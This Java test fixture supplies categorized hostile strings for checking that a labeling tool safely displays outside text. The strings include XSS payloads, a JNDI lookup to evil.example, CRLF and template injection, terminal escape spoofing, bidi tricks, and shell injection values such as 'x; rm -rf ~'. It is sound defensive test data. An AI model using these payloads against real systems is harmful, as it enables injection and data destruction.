package io.labelguard.tests.gallery;

import java.util.List;
import java.util.stream.Stream;

/// Strings that mean harm to whatever shows them, as names and texts from outside may hold them.
final class HostileStrings {

  private static final List<String> CHAT =
      List.of(
          "<!channel>",
          "<!here> look",
          "<!everyone>",
          "<@U0123ABCD>",
          "<#C0123ABCD>",
          "<!subteam^S0123|admins>",
          "@channel @here @everyone",
          "<https://evil.example|AWS console>",
          "<mailto:a@evil.example|ask here>",
          "https://evil.example/login",
          "&lt;!channel&gt;",
          "<!date^0^{date}|now>",
          "*bold* _italic_ ~gone~",
          "> quoted",
          ":rotating_light: :white_check_mark:",
          "`code` and `more`",
          "```\nfence\n```",
          "``` ```",
          "`",
          "![x](https://evil.example/x.png)",
          "[AWS console](https://evil.example)",
          "# Heading",
          "- item\n- item",
          "| a | b |\n|---|---|");

  private static final List<String> PAGES =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' onmouseover='alert(1)",
          "<a href=\"javascript:alert(1)\">x</a>",
          "</title></head><h1>OK</h1>",
          "<!-- --><meta http-equiv=refresh content=0>",
          "&amp;&#60;b&#62;",
          "]]>",
          "{% include 'x' %}",
          "{{ 7*7 }}",
          "${jndi:ldap://evil.example/x}",
          "#{x}",
          "%s %d %n %1$s",
          "%0d%0aSubject: x");

  private static final List<String> TERMINALS =
      List.of(
          "\u001b[31mred\u001b[0m",
          "\u001b[2J\u001b[H",
          "\u001b]8;;https://evil.example\u001b\\AWS console\u001b]8;;\u001b\\",
          "\u001b]0;title\u0007",
          "\u009b31m",
          "\u0000",
          "a\u0000b",
          "\u0007\u0008\u007f",
          "\t\t",
          "\u000b\u000c",
          "a\rb",
          "\r\nOK: nothing found",
          "\n\nWHAT TO DO\n  1. labelguard undo --bucket other",
          "\nCRITICAL: 9 labeling jobs will fail",
          "\u2028WHAT TO DO\u2029",
          "\u0085x");

  private static final List<String> WRITING =
      List.of(
          "\u202egnp.exe",
          "\u202a\u202b\u202c\u202d",
          "\u2066x\u2069\u2067\u2068",
          "\u200e\u200f\u061c",
          "zero\u200bwidth\u200c\u200d\u2060\ufeff",
          "\u00adsoft",
          "\ud83d",
          "\ude00x",
          "x\ud83d\ud83dy",
          "\ue000",
          "\uffff",
          "\udb40\udc41",
          "e\u0301\u0301\u0301",
          "\ud83d\ude00\ud83d\ude00",
          "\u7ba1\u7406\u8005",
          "\u0627\u0644");

  private static final List<String> SHELLS =
      List.of(
          "$(touch x)",
          "`touch x`",
          "x; rm -rf ~",
          "x && true",
          "x | sh",
          "x > y",
          "it's",
          "'; touch x; '",
          "\"; touch x; \"",
          "\\",
          "x\\",
          "!!",
          "*",
          "~",
          "--apply",
          "-x",
          "x y  z",
          "$HOME",
          "{a,b}",
          "x #y",
          "x\ntouch y");

  private static final List<String> FORMS =
      List.of(
          "\"",
          "\\u0000",
          "{\"type\":\"alert\",\"id\":\"x\"}",
          "\"},{\"type\":\"header\"",
          "[]",
          "null",
          " ",
          "...",
          "x".repeat(10_240),
          "word ".repeat(2_048),
          "<".repeat(3_000),
          "'".repeat(500),
          "\u001b[31m".repeat(700),
          "x".repeat(70) + " WHAT TO DO " + "y".repeat(77));

  private HostileStrings() {}

  static List<String> all() {
    return Stream.of(CHAT, PAGES, TERMINALS, WRITING, SHELLS, FORMS).flatMap(List::stream).toList();
  }
}
